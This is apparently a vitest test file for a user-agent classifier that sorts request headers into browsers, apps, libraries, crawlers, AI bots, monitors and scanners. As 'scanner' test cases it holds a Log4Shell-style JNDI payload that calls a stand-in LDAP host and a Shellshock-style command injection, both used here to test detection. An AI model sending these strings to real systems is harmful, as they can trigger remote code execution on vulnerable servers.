import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  agentClass,
  agentClasses,
  agentClassesVersion,
  classOfFamily,
  rememberedClasses,
  type AgentClass,
} from '../../lib/domain/agent-class.ts';
import { userAgentFamilies } from '../../lib/domain/user-agent.ts';
import { cpuMilliseconds } from '../cpu-milliseconds.ts';

const listed = readFileSync(new URL('../fixtures/user-agents.txt', import.meta.url), 'utf8')
  .split(/\r?\n/)
  .filter((line) => line.includes('\t'))
  .map((line) => line.split('\t')[1] ?? '');
const chrome =
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';

/** The rules at the time when they got this version. */
const frozen = { version: 'classes.2', tables: '0aa478b2e832ce41', agents: '721d950f39b7b8af' };

const digest = (value: unknown): string =>
  createHash('sha256').update(JSON.stringify(value)).digest('hex').slice(0, 16);

describe('agentClass', () => {
  it.each<[AgentClass, string]>([
    ['browser', chrome],
    [
      'browser',
      'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
    ],
    ['app', 'MyApp/12 CFNetwork/1490.0.4 Darwin/23.2.0'],
    ['app', 'Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ2A.230505.002)'],
    ['library', 'curl/8.4.0'],
    ['library', 'python-requests/2.31.0'],
    ['library', 'Java-http-client/17.0.7'],
    ['crawler', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'],
    ['crawler', 'Mozilla/5.0 (compatible; SomeNewBot/1.0)'],
    ['crawler', 'Some fetcher of ours (ops@a.example)'],
    [
      'ai',
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)',
    ],
    ['ai', 'Mozilla/5.0 (compatible; ClaudeBot/1.0; +claudebot@anthropic.com)'],
    ['monitor', 'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)'],
    ['monitor', 'kube-probe/1.29'],
    ['scanner', 'sqlmap/1.7.2#stable (https://sqlmap.org)'],
    ['scanner', '${jndi:ldap://198.51.100.7:1389/a}'],
    ['scanner', '() { :; }; /bin/bash -c "id"'],
    ['other', ''],
    ['other', '-'],
    ['other', 'Hello, World'],
  ])('is %s for %s', (its, agent) => {
    expect(agentClass(agent)).toBe(its);
  });

  it('is one of the classes for any text, and the same when it is remembered', () => {
    const remembered = rememberedClasses();
    fc.assert(
      fc.property(fc.oneof(fc.constantFrom(...listed), fc.string({ maxLength: 600 })), (agent) => {
        expect(agentClasses).toContain(agentClass(agent));
        expect([remembered(agent), remembered(agent)]).toEqual([agentClass(agent), agentClass(agent)]);
      }),
    );
  });

  it('has only families that agents can have in its tables', () => {
    expect([...classOfFamily.keys()].filter((family) => !userAgentFamilies.has(family))).toEqual([]);
  });

  it('takes time in proportion to the length of a hostile agent', () => {
    for (const piece of ['a@', 'http', '(;', '.-', ' union ', 'x/']) {
      const spent = cpuMilliseconds(() => {
        for (let n = 0; n < 20; n++) agentClass(piece.repeat(512).slice(0, 1_024));
      });
      expect(spent).toBeLessThan(1_000);
    }
  });

  it('has a version, which changes with the tables (raise AGENT_CLASSES_REVISION, then write the new digests here)', () => {
    const tables = [...classOfFamily].sort(([a], [b]) => (a < b ? -1 : 1));
    const agents = listed.toSorted().map((agent) => [agent, agentClass(agent)]);
    expect({ version: agentClassesVersion, tables: digest(tables), agents: digest(agents) }).toEqual(frozen);
  });
});
